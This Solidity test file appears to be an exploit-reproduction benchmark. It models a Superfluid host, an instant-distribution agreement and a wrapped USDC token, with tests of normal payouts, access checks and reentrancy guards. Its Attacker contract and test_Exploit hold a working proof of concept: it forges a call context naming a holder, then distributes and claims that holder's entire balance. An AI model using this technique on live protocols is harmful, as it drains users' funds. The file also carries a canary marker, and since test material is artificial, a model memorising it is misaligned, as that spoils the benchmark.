// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./Superfluid.sol";

// assay-canary-bfa193e5-67a7-4b18-90b7-b7a76a33b4e5

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
}

contract Usdc is ERC20("USD Coin", "USDC") {
    address private minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant CAT = address(0xCA7);

    Usdc internal usdc;
    Superfluid internal host;
    InstantDistributionAgreementV1 internal ida;
    SuperToken internal usdcx;
    Attacker internal thief;

    function setUp() public {
        usdc = new Usdc();
        host = new Superfluid();
        ida = new InstantDistributionAgreementV1(host);
        host.registerAgreement(address(ida));
        usdcx = new SuperToken(usdc, host);
        usdc.mint(ANA, 2_000_000e18);
        vm.startPrank(ANA);
        usdc.approve(address(usdcx), type(uint256).max);
        usdcx.upgrade(1_500_000e18);
        vm.stopPrank();
        thief = new Attacker(host, ida, usdcx);
    }

    function create(uint32 id) internal view returns (bytes memory) {
        return abi.encodeCall(ida.createIndex, (usdcx, id, ""));
    }

    function units(uint32 id, address who, uint128 n) internal view returns (bytes memory) {
        return abi.encodeCall(ida.updateSubscription, (usdcx, id, who, n, ""));
    }

    function pay(uint32 id, uint256 perUnit) internal view returns (bytes memory) {
        return abi.encodeCall(ida.distribute, (usdcx, id, perUnit, ""));
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        host.callAgreement(address(ida), create(1), "hello");
        address[] memory to = new address[](3);
        bytes[] memory data = new bytes[](3);
        (to[0], to[1], to[2]) = (address(ida), address(ida), address(ida));
        (data[0], data[1], data[2]) = (units(1, BEN, 3), units(1, CAT, 1), pay(1, 100e18));
        host.batchCall(to, data);
        require(usdcx.balanceOf(ANA) == 1_499_600e18, "ana paid for four units");
        require(ida.pending(usdcx, ANA, 1, BEN) == 300e18, "ben is due");
        ida.claim(usdcx, ANA, 1, BEN);
        require(usdcx.balanceOf(BEN) == 300e18 && ida.pending(usdcx, ANA, 1, BEN) == 0, "ben was paid");
        host.callAgreement(address(ida), units(1, CAT, 2), "");
        require(usdcx.balanceOf(CAT) == 100e18, "cat was paid before her units changed");
        host.callAgreement(address(ida), pay(1, 10e18), "");
        require(usdcx.balanceOf(ANA) == 1_499_550e18 && ida.pending(usdcx, ANA, 1, CAT) == 20e18, "five units");
        usdcx.downgrade(550e18);
        require(usdc.balanceOf(ANA) == 500_550e18, "unwrapped");
        usdcx.transfer(BEN, 5e18);
        usdcx.approve(BEN, 1e18);
        usdcx.increaseAllowance(BEN, 2e18);
        usdcx.decreaseAllowance(BEN, 1e18);
        vm.stopPrank();
        vm.prank(BEN);
        usdcx.transferFrom(ANA, CAT, 2e18);
        require(usdcx.balanceOf(CAT) == 102e18 && usdcx.allowance(ANA, BEN) == 0, "moved");
        host.transferOwnership(address(this));
        host.renounceOwnership();
        require(host.owner() == address(0), "nobody's");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert("Ownable: caller is not the owner");
        host.registerAgreement(BEN);
        vm.expectRevert(abi.encodeWithSelector(NotAgreement.selector));
        usdcx.settle(ANA, BEN, 1);
        vm.expectRevert(abi.encodeWithSelector(NotAgreement.selector));
        host.callAgreement(address(usdcx), abi.encodeCall(usdcx.transfer, (BEN, 0)), "");
        bytes memory ctx = abi.encode(CallContext(ANA, block.timestamp, ""));
        vm.expectRevert(abi.encodeWithSelector(NotHost.selector));
        ida.createIndex(usdcx, 1, ctx);
        vm.expectRevert(abi.encodeWithSelector(NotHost.selector));
        ida.updateSubscription(usdcx, 1, BEN, 1, ctx);
        vm.expectRevert(abi.encodeWithSelector(NotHost.selector));
        ida.distribute(usdcx, 1, 1, ctx);
        vm.expectRevert("ctx has no stamp");
        host.decodeCtx(ctx);
        vm.expectRevert("ERC20: burn amount exceeds balance");
        usdcx.downgrade(1);
        vm.stopPrank();
    }

    function test_RefusesBadCalls() public {
        vm.startPrank(ANA);
        vm.expectRevert("no index");
        host.callAgreement(address(ida), units(1, BEN, 1), "");
        vm.expectRevert("no index");
        ida.claim(usdcx, ANA, 1, BEN);
        host.callAgreement(address(ida), create(1), "");
        vm.expectRevert("index exists");
        host.callAgreement(address(ida), create(1), "");
        vm.expectRevert("no units");
        host.callAgreement(address(ida), pay(1, 1), "");
        vm.expectRevert("placeholder in use");
        host.callAgreement(address(ida), abi.encodePacked(create(2), uint256(1)), "");
        vm.expectRevert("lengths differ");
        host.batchCall(new address[](0), new bytes[](1));
        host.callAgreement(address(ida), units(1, BEN, 1), "");
        vm.expectRevert("ERC20: transfer amount exceeds balance");
        host.callAgreement(address(ida), pay(1, 1_500_000e18 + 1), "");
        vm.stopPrank();
    }

    // a listed agreement that calls back gets nowhere
    function test_RefusesNestedCalls() public {
        Nested nested = new Nested(host);
        host.registerAgreement(address(nested));
        vm.expectRevert("ReentrancyGuard: reentrant call");
        host.callAgreement(address(nested), abi.encodeCall(nested.again, ("")), "");
        vm.expectRevert("ReentrancyGuard: reentrant call");
        host.callAgreement(address(nested), abi.encodeCall(nested.batch, ("")), "");
        address[] memory to = new address[](1);
        bytes[] memory data = new bytes[](1);
        (to[0], data[0]) = (address(nested), abi.encodeCall(nested.again, ("")));
        vm.expectRevert("ReentrancyGuard: reentrant call");
        host.batchCall(to, data);
    }

    function exploit() public {
        thief.run(ANA);
    }

    function test_Exploit() public {
        exploit();
        require(usdcx.balanceOf(address(thief)) >= 1_500_000e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(usdcx);
    }

    function target() public view returns (address) {
        return address(ida);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

contract Nested {
    Superfluid internal host;

    constructor(Superfluid host_) {
        host = host_;
    }

    function again(bytes calldata) external {
        host.callAgreement(address(this), abi.encodePacked(uint256(0), uint256(0)), "");
    }

    function batch(bytes calldata) external {
        host.batchCall(new address[](0), new bytes[](0));
    }
}

/// Publishes in the name of a holder, with itself as the one subscriber.
contract Attacker {
    Superfluid internal host;
    InstantDistributionAgreementV1 internal ida;
    SuperToken internal token;

    constructor(Superfluid host_, InstantDistributionAgreementV1 ida_, SuperToken token_) {
        host = host_;
        ida = ida_;
        token = token_;
    }

    function run(address holder) external {
        bytes memory ctx = abi.encode(CallContext(holder, block.timestamp, ""));
        act(abi.encodeCall(ida.createIndex, (token, 7, ctx)));
        act(abi.encodeCall(ida.updateSubscription, (token, 7, address(this), 1, ctx)));
        act(abi.encodeCall(ida.distribute, (token, 7, token.balanceOf(holder), ctx)));
        ida.claim(token, holder, 7, address(this));
    }

    // the offset points to the ctx above, the empty placeholder follows it
    function act(bytes memory data) internal {
        host.callAgreement(address(ida), abi.encodePacked(data, uint256(0)), "");
    }
}
